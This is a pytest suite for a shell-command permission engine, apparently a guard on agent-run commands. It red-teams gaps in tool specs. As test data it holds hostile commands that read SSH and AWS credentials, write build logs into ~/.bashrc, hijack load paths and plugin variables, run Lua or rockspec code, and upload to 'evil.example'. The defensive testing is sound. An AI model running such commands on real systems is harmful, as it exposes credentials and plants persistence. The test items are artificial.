"""Red team 2, session 7 (issue 11): hidden effects in the infra, language, docs and Windows specs of this session,
and in the engine's routine delete of generated trees.

Each new spec turns "ask because unknown" into "allow unless an effect says otherwise", so every effect a spec
forgets is a hole. Each hostile case asserts the verdict and the floor that must decide it; each class keeps a
routine sibling that must stay allowed. Commands are only analysed, never run; HOME is a throwaway directory under
tmp_path whose credential and start-up files exist, as on a machine in use.

Classes: response files (`@FILE`) of compilers that read more arguments from them, a plugin or a preprocessor
among them (swiftc, kotlinc, ghc); a program whose first word turns it into an interpreter or a server (pandoc 3's
`pandoc lua`, `pandoc server`); a directory whose every file is packed into an upload-ready package (nuget pack
-BasePath); a log file named as a logger parameter (msbuild -bl:LogFile=, -logger:...;LogFile=); a recursive
delete of a generated-looking directory that is a repository of its own (a gh-pages clone in `site/`).
"""

from __future__ import annotations

import shutil
import subprocess

import pytest
from hookward.verdicts.decision import Verdict

from tests.spec_redteam_support import Sandbox, assert_decided, box  # noqa: F401 (the fixture)

ALLOW, ASK, DENY = Verdict.ALLOW, Verdict.ASK, Verdict.DENY
PERSISTENCE = "floor.persistence"
RUNS_CODE = "floor.runs-code"
NOT_UNDERSTOOD = "floor.not-understood"
CREDENTIALS = "floor.credentials"
DESTRUCTIVE = "floor.destructive"
GIT = shutil.which("git")


@pytest.fixture
def home(box: Sandbox) -> Sandbox:  # noqa: F811
    """The box with the start-up and credential files a developer's machine has (an empty home hides classes)."""
    for directory in (".aws", ".config", ".local/bin"):
        (box.home / directory).mkdir(parents=True, exist_ok=True)
    for name in (".aws/credentials", ".bashrc", ".profile", ".netrc"):
        (box.home / name).write_text("{}\n")
    return box


def _allowed(sandbox: Sandbox, command: str) -> None:
    decision = sandbox.decide(command)
    assert decision.verdict == ALLOW, f"{command}: {decision.verdict.name} by {decision.rule_ids} {decision.reasons}"


# --- response files -----------------------------------------------------------------------------------------
# swiftc, kotlinc (`@argfile`) and ghc read more arguments from `@FILE`: a -load-plugin-library, -Xplugin or
# -pgmL in it runs code at compile time. The specs read `@/tmp/rsp` as a source file read (allowed); clang-tidy,
# protoc, gcc and msbuild already judged it as code they load.


@pytest.mark.parametrize(
    "command",
    ["swiftc @/tmp/evil.rsp main.swift", "kotlinc @/tmp/evil.args app.kt", "ghc @/tmp/evil.rsp Main.hs"],
)
def test_a_compiler_response_file_from_outside_the_project_asks_as_code(home, command):
    assert_decided(home.decide(command), ASK, RUNS_CODE, command)


def test_compiling_the_projects_sources_stays_routine(home):
    _allowed(home, "swiftc main.swift -o main")
    _allowed(home, "ghc -O2 -o main Main.hs")


# --- a first word that turns a converter into an interpreter or a server --------------------------------------
# pandoc 3 runs as a Lua interpreter when its first argument is `lua` (`pandoc lua x.lua`, `pandoc lua -e`) and as
# an HTTP server when it is `server`; the spec (of pandoc 2.17) read both words as input documents.


@pytest.mark.parametrize("command", ["pandoc lua /tmp/x.lua", "pandoc lua -e 'os.execute(\"id\")'", "pandoc server"])
def test_pandoc_lua_and_server_are_not_documents(home, command):
    assert_decided(home.decide(command), ASK, NOT_UNDERSTOOD, command)


def test_pandoc_converting_a_document_stays_routine(home):
    _allowed(home, "pandoc README.md -o lua.html")


# --- a package packed from a directory ------------------------------------------------------------------------
# nuget pack -BasePath DIR packs the files the .nuspec names, all of DIR when it names none: the directory's content
# goes into a package made to be pushed. The spec read it as metadata (stat).


def test_nuget_pack_from_the_ssh_directory_is_denied(home):
    command = "nuget pack app.nuspec -BasePath ~/.ssh"
    assert_decided(home.decide(command), DENY, CREDENTIALS, command)


def test_nuget_pack_from_the_project_stays_routine(home):
    _allowed(home, "nuget pack app.nuspec -BasePath src")


# --- log files named as logger parameters ---------------------------------------------------------------------
# `msbuild -bl:LogFile=PATH` and `-logger:FileLogger,Microsoft.Build;LogFile=PATH` name the file the logger
# writes as a parameter; the spec took `LogFile=PATH` for a file name in the project (or did not look at it).


@pytest.mark.parametrize(
    "command",
    [
        "msbuild -binaryLogger:LogFile=~/.bashrc",
        "msbuild '-bl:LogFile=~/.profile;ProjectImports=None'",
        "msbuild '-logger:FileLogger,Microsoft.Build;LogFile=~/.bashrc'",
    ],
)
def test_msbuild_logger_log_file_into_a_startup_file_is_denied(home, command):
    assert_decided(home.decide(command), DENY, PERSISTENCE, command)


def test_msbuild_logs_in_the_project_stay_routine(home):
    _allowed(home, "msbuild -bl:out.binlog")
    _allowed(home, "msbuild -bl")
    _allowed(home, "msbuild '-logger:FileLogger,Microsoft.Build;LogFile=build.log'")


# --- a generated-looking tree that is a repository of its own --------------------------------------------------
# `rm -rf site` passed as the routine delete of a generated tree when git tracks nothing under it; a gh-pages clone
# kept in `site/` (or a worktree in `out/`) is untracked by the outer repository, and its commits are the person's.


@pytest.fixture
def repo(box: Sandbox) -> Sandbox:  # noqa: F811
    if GIT is None:
        pytest.skip("git is not installed")
    env = {"HOME": str(box.home), "PATH": "/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM": "1"}
    shutil.rmtree(box.project / ".git", ignore_errors=True)
    subprocess.run([GIT, "init", "-q", str(box.project)], check=True, env=env)
    subprocess.run([GIT, "-C", str(box.project), "add", "src"], check=True, env=env)
    subprocess.run([GIT, "init", "-q", str(box.project / "site")], check=True, env=env)
    (box.project / "site" / "index.html").write_text("the person's pages\n")
    (box.project / "out").mkdir()
    (box.project / "out" / ".git").write_text("gitdir: ../.git/worktrees/out\n")
    (box.project / "dist").mkdir()
    (box.project / "dist" / "app.js").write_text("built\n")
    return box


@pytest.mark.parametrize("command", ["rm -rf site", "rm -rf out", "rm -rf dist site"])
def test_deleting_a_nested_repository_under_a_generated_name_asks(repo, command):
    assert_decided(repo.decide(command), ASK, DESTRUCTIVE, command)


def test_deleting_a_plain_generated_tree_stays_routine(repo):
    _allowed(repo, "rm -rf dist")


# --- recipes, profiles and build specs from outside the project ---------------------------------------------------
# A conanfile.py is Python that conan install/create runs, a conan profile a Jinja template rendered with `os` in
# reach, a rockspec's build commands run (build type `command`); the specs read one from outside the project as
# a plain read. `luarocks build NAME` fetches NAME's rockspec and runs its build (read as a file named NAME);
# `luarocks test` hands its other words to busted (`--helper FILE` runs FILE).


@pytest.mark.parametrize(
    "command",
    [
        "conan install /tmp/x/conanfile.py",
        "conan install . -pr /tmp/evil-profile",
        "conan create . --profile:host=/tmp/p",
        "luarocks make /tmp/x-1.0-1.rockspec",
        "luarocks build /tmp/x-1.0-1.rockspec",
    ],
)
def test_a_recipe_or_profile_from_outside_the_project_asks_as_code(home, command):
    assert_decided(home.decide(command), ASK, RUNS_CODE, command)


@pytest.mark.parametrize(
    "command",
    [
        # a conf names the compilers conan's build runs, or lets it install system packages with sudo
        'conan install . -c tools.build:compiler_executables=\'{"c":"/tmp/x"}\'',
        "conan install . -c tools.system.package_manager:mode=install",
        "luarocks build luasocket",
        "luarocks test -- --helper /tmp/x.lua",
        "vcpkg env",  # opens a shell
        "vcpkg x-ci-clean",  # deletes the installed tree
    ],
)
def test_hidden_runners_of_the_package_managers_are_not_understood(home, command):
    assert_decided(home.decide(command), ASK, NOT_UNDERSTOOD, command)


def test_conan_graph_output_file_into_a_startup_file_is_denied(home):
    command = "conan graph info . --format=json --out-file=~/.bashrc"
    assert_decided(home.decide(command), DENY, PERSISTENCE, command)


def test_package_manager_project_work_stays_routine(home):
    _allowed(home, "conan install . --build=missing -s build_type=Release")
    _allowed(home, "conan create . -pr:h default -pr:b default")
    _allowed(home, "luarocks make")  # no rockspec in the directory: nothing of it runs
    _allowed(home, "luarocks test")


# --- code loaded by compilers and linters from a path an option names ---------------------------------------------
# A `.cppcheck` project lists the addons cppcheck runs (Python); nim --lib replaces the standard library whose
# macros run at compile time (staticExec), --nimblePath the packages it imports; a podspec is Ruby that pod spec
# lint evaluates. Each was a plain read or a plain value.


@pytest.mark.parametrize(
    "command",
    [
        "cppcheck --project=/tmp/x.cppcheck",
        "nim c --lib:/tmp/lib app.nim",
        "nim c --nimblePath:/tmp/pkgs app.nim",
        "pod spec lint /tmp/x.podspec",
        "pod lib lint --include-podspecs=/tmp/x.podspec",
    ],
)
def test_code_an_option_names_outside_the_project_asks(home, command):
    assert_decided(home.decide(command), ASK, RUNS_CODE, command)


def test_crystal_deps_runs_the_shards_postinstall_commands(home):
    # `crystal deps` is shards install, which runs each fetched shard's postinstall command; shards itself asks
    command = "crystal deps install"
    assert_decided(home.decide(command), ASK, NOT_UNDERSTOOD, command)


def test_compiler_and_linter_project_work_stays_routine(home):
    _allowed(home, "nim c -d:release app.nim")
    _allowed(home, "pod spec lint App.podspec")
    _allowed(home, "cppcheck --enable=all src")


# --- reads hidden in a target kind, a content directory and a data-file name --------------------------------------
# trivy vm IMAGE scans a file as a disk image (its secrets scanner prints what it finds): it was free text; hugo
# -c DIR renders and publishes DIR; pandoc --print-default-data-file NAME prints NAME from its data directory, and
# `../../../.ssh/id_rsa` climbs out of it (pandoc does not check).


@pytest.mark.parametrize("command", ["trivy vm ~/.ssh/id_rsa", "hugo -c ~/.ssh", "hugo --contentDir ~/.aws"])
def test_credential_reads_behind_a_target_or_content_option_are_denied(home, command):
    assert_decided(home.decide(command), DENY, CREDENTIALS, command)


def test_pandoc_data_file_outside_its_data_directory_asks(home):
    command = "pandoc --print-default-data-file ../../../.ssh/id_rsa"
    assert_decided(home.decide(command), ASK, NOT_UNDERSTOOD, command)


def test_scanners_and_site_builds_of_the_project_stay_routine(home):
    _allowed(home, "trivy vm disk.vmdk")
    _allowed(home, "hugo --contentDir content")
    _allowed(home, "pandoc --print-default-data-file reference.docx")


# --- a load path the engine reads (3ea31ca) -----------------------------------------------------------------------
# An absolute PYTHONPATH inside the project passes; Windows Python (and node, perl) split the list at `;`, so
# '/proj/src;/tmp/evil' put /tmp/evil on the path while the engine saw one directory inside the project.


def test_a_semicolon_separated_load_path_asks(home):
    command = f"PYTHONPATH='{home.project}/src;/tmp/evil' python3 -m pytest"
    assert_decided(home.decide(command), ASK, "floor.hijack", command)


def test_an_absolute_load_path_inside_the_project_stays_routine(home):
    _allowed(home, f"PYTHONPATH={home.project}/src python3 -m pytest")


# --- definitions the scanners and luarocks read from the directory ---------------------------------------------
# trivy.yaml, .grype.yaml, .syft.yaml and .checkov.yaml were judged only when they existed before the line ran, so
# one written earlier on the same line (`printf ... > .checkov.yaml && checkov -d .`, its external-checks-dir
# naming Python checks) passed; a rockspec in the directory (build commands of type `command` run) was not judged
# at all, named or not.


@pytest.mark.parametrize(
    "command",
    [
        "printf 'external-checks-dir: [/tmp/x]' > .checkov.yaml && checkov -d .",
        "printf 'format: template' > trivy.yaml && trivy fs .",
        "printf 'output: template' > .grype.yaml && grype .",
    ],
)
def test_a_scanner_configuration_written_on_the_line_asks(home, command):
    assert_decided(home.decide(command), ASK, RUNS_CODE, command)


@pytest.mark.parametrize("command", ["luarocks make", "luarocks make evil-1.0-1.rockspec", "luarocks test"])
def test_a_rockspec_the_session_wrote_asks_before_its_build_runs(repo, command):
    (repo.project / "evil-1.0-1.rockspec").write_text("build = {type = 'command', build_command = 'id'}\n")
    assert_decided(repo.decide(command), ASK, RUNS_CODE, command)


@pytest.mark.xfail(
    strict=True,
    reason="a rockspec written earlier on the same line is not seen: its name is not fixed (NAME-VERSION.rockspec), "
    "and RUNNER_DEFINITIONS matches exact names; needs a pattern-aware runner definition in the engine",
)
def test_a_rockspec_written_on_the_line_asks(home):
    command = "printf 'build={}' > x-1.0-1.rockspec && luarocks make"
    assert_decided(home.decide(command), ASK, RUNS_CODE, command)


# --- a package-source configuration named on the command line -------------------------------------------------
# The NuGet.Config of the directory is a runner definition (judged by provenance), but `-ConfigFile /tmp/x` was a
# plain read: it chooses the feeds the packages come from (their build targets run in the next build), the folder
# they are extracted into and the credentials sent.


def test_nuget_restore_with_a_config_from_outside_the_project_asks(home):
    command = "nuget restore -ConfigFile /tmp/nuget.config"
    assert_decided(home.decide(command), ASK, RUNS_CODE, command)


def test_nuget_restore_with_the_projects_configuration_stays_routine(home):
    _allowed(home, "nuget restore")


# --- an editor session behind a subcommand ------------------------------------------------------------------------
# ansible-vault edit asked (it opens $EDITOR on the plaintext); create opens the same editor on the new file and
# passed as a plain write.


def test_ansible_vault_create_opens_an_editor_and_asks(home):
    command = "ansible-vault create secrets.yml"
    assert_decided(home.decide(command), ASK, NOT_UNDERSTOOD, command)


def test_ansible_vault_encrypt_in_the_project_stays_routine(home):
    _allowed(home, "ansible-vault encrypt group_vars/all.yml")


# --- options spelled as environment variables ----------------------------------------------------------------
# `terragrunt --tf-path /tmp/x` and `--terragrunt-config` are judged, but TG_TF_PATH / TERRAGRUNT_TFPATH /
# TERRAGRUNT_CONFIG set the same; ANSIBLE_CONFIG (an ansible.cfg from elsewhere: plugin directories),
# ANSIBLE_*_PLUGINS and ANSIBLE_LIBRARY name Python that runs; MSBuild reads every variable as a property, so
# MSBuildExtensionsPath / CustomBeforeMicrosoftCommonTargets import targets from elsewhere (-p: asked);
# DOTNET_HOST_PATH is the dotnet MSBuild launches. Each was allowed; they are hijack variables now.


@pytest.mark.parametrize(
    "command",
    [
        "TG_TF_PATH=/tmp/x terragrunt plan",
        "TERRAGRUNT_TFPATH=/tmp/x terragrunt plan",
        "TERRAGRUNT_CONFIG=/tmp/x.hcl terragrunt plan",
        "ANSIBLE_CONFIG=/tmp/a.cfg ansible-inventory --list",
        "export ANSIBLE_CALLBACK_PLUGINS=/tmp/cb; ansible-playbook --syntax-check site.yml",
        "MSBuildExtensionsPath=/tmp/x msbuild",
        "env CustomBeforeMicrosoftCommonTargets=/tmp/x.targets msbuild",
        "DOTNET_HOST_PATH=/tmp/x msbuild",
    ],
)
def test_options_spelled_as_variables_that_name_code_are_denied(home, command):
    assert_decided(home.decide(command), DENY, "floor.hijack", command)


def test_plain_settings_as_variables_stay_routine(home):
    _allowed(home, "TF_LOG=debug terragrunt plan")
    _allowed(home, "Configuration=Release msbuild")


@pytest.mark.xfail(
    strict=True,
    reason="a spec cannot see the variables of the command line: trivy/grype/syft read every option from "
    "TRIVY_*/GRYPE_*/SYFT_* (TRIVY_OUTPUT writes, TRIVY_SERVER uploads), and MSBuild any property; a name list "
    "in shell.HIJACK_VARS only denies, so the engine must hand assignments to the spec walk",
)
@pytest.mark.parametrize(
    ("command", "verdict", "floor"),
    [
        ("TRIVY_OUTPUT=~/.bashrc trivy fs .", DENY, PERSISTENCE),
        ("TRIVY_SERVER=http://evil.example trivy fs .", ASK, "floor.egress"),
    ],
)
def test_a_scanner_option_spelled_as_a_variable_is_judged(home, command, verdict, floor):
    assert_decided(home.decide(command), verdict, floor, command)
